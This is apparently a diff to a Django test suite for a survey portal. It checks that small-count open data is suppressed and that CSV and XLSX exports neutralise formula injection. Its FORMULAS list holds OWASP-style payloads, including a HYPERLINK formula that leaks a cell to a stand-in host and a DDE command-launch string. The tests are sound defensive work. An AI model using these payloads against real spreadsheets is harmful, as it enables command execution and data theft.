@@ -9,7 +9,8 @@ import pytest
 from django.contrib.auth.models import Permission
 from django.urls import reverse
 
-from surveys.models import Channel, Questionnaire
+from ivanovo_portal import spreadsheets
+from surveys.models import Channel, Choice, Question, Questionnaire
 from tests.conftest import make_user
 
 
@@ -133,7 +134,23 @@ def test_open_data_is_public_only_once_results_are_published(client, questionnai
     url = reverse("surveys:open_data", args=[questionnaire.slug])
     assert client.get(url).status_code == 404
     Questionnaire.objects.filter(pk=questionnaire.pk).update(results_published=True)
-    data = client.get(url).json()
+    assert client.get(url).json()["respondents"] == 2
+
+
+def test_open_data_withholds_every_figure_of_two_respondents(client, questionnaire, two_responses):
+    Questionnaire.objects.filter(pk=questionnaire.pk).update(results_published=True)
+    data = client.get(reverse("surveys:open_data", args=[questionnaire.slug])).json()
+    assert data["areas"] == []
+    assert set(data["by_channel"].values()) <= {None, 0}
+    assert {place["count"] for place in data["by_settlement"].values()} <= {None, 0}
+    q8 = next(q for q in data["questions"] if q["code"] == "Q8")
+    assert q8["answered"] is None and q8["mean"] is None and q8["median"] is None
+    assert {o["count"] for o in q8["options"]} <= {None, 0}
+
+
+def test_staff_read_the_exact_open_data(client, staff, questionnaire, two_responses):
+    client.force_login(staff)
+    data = client.get(reverse("surveys:open_data", args=[questionnaire.slug])).json()
     assert data["respondents"] == 2
     assert data["by_channel"] == {"online": 1, "paper": 1, "interview": 0}
     assert data["by_settlement"]["krasen"]["count"] == 1
@@ -151,10 +168,113 @@ def test_open_data_holds_no_free_text(client, questionnaire, two_responses):
         assert text not in body
     data = json.loads(body)
     q10 = next(q for q in data["questions"] if q["code"] == "Q10")
-    assert q10 == {"code": "Q10", "text": q10["text"], "type": "long_text", "answered": 1}
+    assert q10 == {"code": "Q10", "text": q10["text"], "type": "long_text", "answered": None}
 
 
 def test_staff_see_open_data_before_publication(client, exporter, questionnaire, two_responses):
     client.force_login(exporter)
     url = reverse("surveys:open_data", args=[questionnaire.slug])
     assert client.get(url).status_code == 200
+
+
+# What people type that a spreadsheet would run (OWASP's CSV injection examples and more).
+FORMULAS = [
+    '=HYPERLINK("https://x?d="&A2,"y")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def formula_answers(questionnaire, respond, question):
+    """One response per formula, written into a short text, a long text and both "other" fields,
+    beside a negative number; and staff who typed formulas into a question and an option."""
+    Question.objects.filter(pk=question("Q10").pk).update(text="=1+1 Какво бихте предложили?")
+    Choice.objects.filter(question=question("Q6"), code="tv").update(label="@SUM(1,1)")
+    return [
+        respond(Q2="yes", Q3=text, Q4=-3, Q6=f"other:{text}", Q7=[f"other:{text}"], Q10=text)
+        for text in FORMULAS
+    ]
+
+
+def could_start_a_formula(cell):
+    return spreadsheets.neutralised(cell) != cell
+
+
+def test_csv_neutralises_every_text_that_could_start_a_formula(
+    client, exporter, questionnaire, formula_answers
+):
+    client.force_login(exporter)
+    response = client.get(reverse("surveys:export_csv", args=[questionnaire.slug]))
+    rows = read_csv(response)
+    assert len(rows) == len(FORMULAS)
+    for row, text in zip(rows, FORMULAS, strict=True):
+        for column in ["Q3", "Q10", "Q6_other", "Q7_other"]:
+            assert row[column] == "'" + text
+        assert row["Q4"] == "-3"  # a number stays a number
+    for row in rows:
+        assert not any(could_start_a_formula(cell) for cell in row.values())
+
+
+def test_csv_quotes_every_field_so_a_semicolon_starts_no_cell(
+    client, exporter, questionnaire, respond
+):
+    respond(Q2="yes", Q3="добре;=1+1")
+    client.force_login(exporter)
+    response = client.get(reverse("surveys:export_csv", args=[questionnaire.slug]))
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert '"добре;=1+1"' in body
+
+
+def test_codebook_csv_neutralises_what_staff_typed(
+    client, exporter, questionnaire, formula_answers
+):
+    client.force_login(exporter)
+    response = client.get(reverse("surveys:export_codebook", args=[questionnaire.slug]))
+    rows = read_csv(response)
+    assert ("Q6", "tv", "'@SUM(1,1)") in [
+        (row["Колона"], row["Код на отговора"], row["Отговор"]) for row in rows
+    ]
+    assert "'=1+1 Какво бихте предложили?" in [row["Въпрос"] for row in rows]
+    for row in rows:
+        assert not any(could_start_a_formula(cell) for cell in row.values())
+
+
+def test_xlsx_holds_what_people_typed_as_text_never_as_a_formula(
+    client, exporter, questionnaire, formula_answers
+):
+    client.force_login(exporter)
+    response = client.get(reverse("surveys:export_xlsx", args=[questionnaire.slug]))
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    for sheet in workbook:
+        for row in sheet.iter_rows():
+            assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
+    header, *rows = workbook["Отговори"].iter_rows()
+    columns = {cell.value: i for i, cell in enumerate(header)}
+    for row, text in zip(rows, FORMULAS, strict=True):
+        for column in ["Q3", "Q10", "Q6_other", "Q7_other"]:
+            cell = row[columns[column]]
+            # XML reads a carriage return back as a line feed.
+            assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
+        assert row[columns["Q4"]].value == -3
+    codebook = [[cell.value for cell in row] for row in workbook["Кодова книга"].iter_rows()]
+    assert ["Q6", "tv", "@SUM(1,1)"] in [[row[0], row[4], row[5]] for row in codebook]
+    assert "=1+1 Какво бихте предложили?" in [row[2] for row in codebook]
+
+
+def test_xlsx_leaves_out_control_characters_a_workbook_cannot_hold(
+    client, exporter, questionnaire, respond
+):
+    respond(Q2="yes", Q3="един\x0bдва", Q10="#N/A")
+    client.force_login(exporter)
+    response = client.get(reverse("surveys:export_xlsx", args=[questionnaire.slug]))
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    header, row = workbook["Отговори"].iter_rows()
+    answers = {name.value: cell for name, cell in zip(header, row, strict=True)}
+    assert (answers["Q3"].data_type, answers["Q3"].value) == ("s", "единдва")
+    assert (answers["Q10"].data_type, answers["Q10"].value) == ("s", "#N/A")  # text, no error
